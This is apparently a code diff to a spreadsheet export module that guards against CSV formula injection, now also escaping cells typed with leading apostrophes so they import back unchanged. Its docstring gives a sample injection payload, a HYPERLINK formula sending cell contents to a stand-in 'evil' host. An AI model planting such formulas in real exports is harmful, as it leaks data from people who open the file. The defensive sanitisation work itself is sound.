@@ -4,7 +4,9 @@ Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``,
 they strip it, a leading tab or carriage return) as a formula: a visit summary typed as
 ``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine (OWASP "CSV injection").
 
-- In CSV such text is written with a leading apostrophe (``'=1+2``), which spreadsheet programs show as text.
+- In CSV such text is written with a leading apostrophe (``'=1+2``), which spreadsheet programs show as text;
+  so is text typed with apostrophes before such a start (``'=1`` → ``''=1``), so the import, which drops
+  one apostrophe, reads every cell back as typed.
 - In xlsx it is written as a string cell (``data_type == "s"``) with the value exactly as typed; openpyxl
   would otherwise store any string beginning with ``=`` as a formula.
 So a phone number ``+86 138 0000 0000`` stays that text in both.
@@ -40,7 +42,9 @@ def csv_cell(value: Any) -> str:
     if isinstance(value, int | float):
         return str(value)  # a number the export computed, not text a user typed
     text = str(value)
-    return "'" + text if is_formula_like(text) else text
+    # also text that begins with apostrophes before a formula start ("'=x" as typed): the import drops one
+    # leading apostrophe from exactly such cells (kb.exchange.reading), so every text reads back as typed
+    return "'" + text if is_formula_like(text.lstrip("'")) else text
 
 
 def xlsx_text(value: str) -> str:
